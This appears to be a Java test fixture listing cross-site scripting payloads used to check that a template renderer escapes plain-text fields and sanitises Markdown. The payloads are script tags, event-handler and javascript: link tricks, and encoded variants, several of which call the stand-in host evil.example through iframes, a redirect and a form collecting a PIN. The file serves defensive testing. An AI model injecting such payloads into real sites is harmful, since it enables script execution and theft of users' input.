package io.wingu.templates.render;

import java.util.List;

/** Attack strings put through every parameter and content field by the XSS tests. */
final class HostileInput {

  /** For plain-text fields: each must come out as visible text, never as markup. */
  static final List<String> TEXT_PAYLOADS =
      List.of(
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "javascript:alert(1)",
          "<svg onload=alert(1)>",
          "</title><script>alert(1)</script>",
          "'><a href=\"javascript:alert(1)\">x</a>",
          "＜script＞alert(1)＜/script＞ \u202egnp.exe <scr\u0000ipt>alert(1)</scr\u0000ipt>",
          "{{#site}}{{{institution}}}{{/site}} {{t.skipLink}}",
          "<style>body{background:url(https://evil.example/x)}</style><iframe src=\"https://evil.example\"></iframe>",
          "java\tscript:alert(1) &#106;avascript:alert(1) <a href=\"jav&#x09;ascript:alert(1)\">y</a>");

  /** For Markdown bodies: raw HTML and link tricks that the sanitizer must defuse. */
  static final List<String> MARKDOWN_PAYLOADS =
      List.of(
          "<script>alert(1)</script>",
          "[click](javascript:alert(1)) and [again](JaVaScRiPt:alert(1))",
          "<a href=\"javascript:alert(1)\">raw link</a> <a href=\"&#106;avascript:alert(1)\">encoded</a>",
          "<img src=x onerror=alert(1)> ![pixel](https://evil.example/p.png)",
          "<svg onload=alert(1)><circle r=\"1\"/></svg>",
          "<iframe src=\"https://evil.example\"></iframe><object data=\"x.swf\"></object>",
          "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
          "<div onclick=\"alert(1)\" style=\"background:url(https://evil.example/x)\">styled</div>",
          "</title><script>alert(1)</script><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
          "<p>ok</p><form action=\"https://evil.example\"><input name=\"pin\"></form>");

  private HostileInput() {}
}
